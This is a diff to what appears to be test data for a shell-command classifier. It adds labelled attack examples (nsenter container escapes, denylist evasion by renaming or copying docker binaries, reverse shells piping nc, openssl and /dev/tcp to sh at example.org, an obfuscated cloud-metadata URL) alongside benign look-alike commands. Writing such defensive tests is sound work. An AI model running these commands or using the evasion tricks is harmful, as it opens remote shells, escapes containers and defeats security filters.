@@ -28,10 +28,25 @@ ATTEMPTS = {
         "find /usr -name 'nsen*' -exec {} -t 1 -m sh \\;",
         "ls /usr/bin | grep ns.nter | xargs -I{} {} -t 1 -m sh",
         "insject -p 1 -- id",
+        "ln -s /bin/busybox /tmp/nsenter; /tmp/nsenter -t 1 -m",
+        'perl -e \'exec {"/usr/bin/nsenter"} "ls","-t","1","-m"\'',
     ],
     "denylist-evasion": [
         "/lib64/ld-linux-x86-64.so.2 /usr/bin/kubectl get pods",
         "/lib/ld-musl-x86_64.so.1 /usr/bin/podman ps",
+        "exec -a sleep docker ps",
+        "hash -p /usr/bin/docker d; d ps",
+        "cat /usr/bin/docker > /tmp/d; chmod +x /tmp/d; /tmp/d ps",
+        "dd if=/usr/bin/ctr of=/tmp/d; /tmp/d version",
+        "ln /usr/bin/docker /tmp/x && /tmp/x ps",
+    ],
+    "network-pivot": [
+        "mkfifo /tmp/p; cat /tmp/p | sh 2>&1 | nc example.org 9 > /tmp/p",
+        "nc example.org 9 | sh",
+        "openssl s_client -quiet -connect example.org:9 | sh",
+        "0<&7; exec 7<>/dev/tcp/example.org/9; sh <&7 >&7",
+        "ip link add link eth0 name m type macvlan mode bridge",
+        "xenstore-write /tool/x 1",
     ],
     "escape-tool": [
         "make && ./breakout && id",
@@ -47,6 +62,7 @@ ATTEMPTS = {
         "curl -g 'http://[fe80::a9fe:a9fe%25eth0]/openstack/'",
         'curl -H "Metadata-Flavor: Google" "$WHERE"',
         "curl http://imds.corp.example.org/latest/meta-data/",
+        "curl http://\u2460\u2465\u2468.254.169.254/",
         "node ask.js --url=http://169.254.169.254/",
         """php -r 'echo file_get_contents("http://169.254.169.254/");'""",
     ],
@@ -116,6 +132,14 @@ ORDINARY = [
     "etcd --listen-client-urls http://localhost:2379",
     "podman machine ssh dev",
     "cloud-init status --wait",
+    "exec -a server python3 app.py",
+    "ln -s /usr/bin/podman ~/bin/docker; ~/bin/docker ps",
+    "ln -s /usr/bin/python3 /tmp/py; /tmp/py --version",
+    "cp build/app /tmp/x && /tmp/x",
+    "curl -s https://example.org/install.sh | bash; until echo > /dev/tcp/localhost/5432; do sleep 1; done",
+    "nc -zv example.org 443",
+    "echo | openssl s_client -connect example.org:443",
+    "ip addr add 10.8.0.2/24 dev tun0",
 ]
 
 
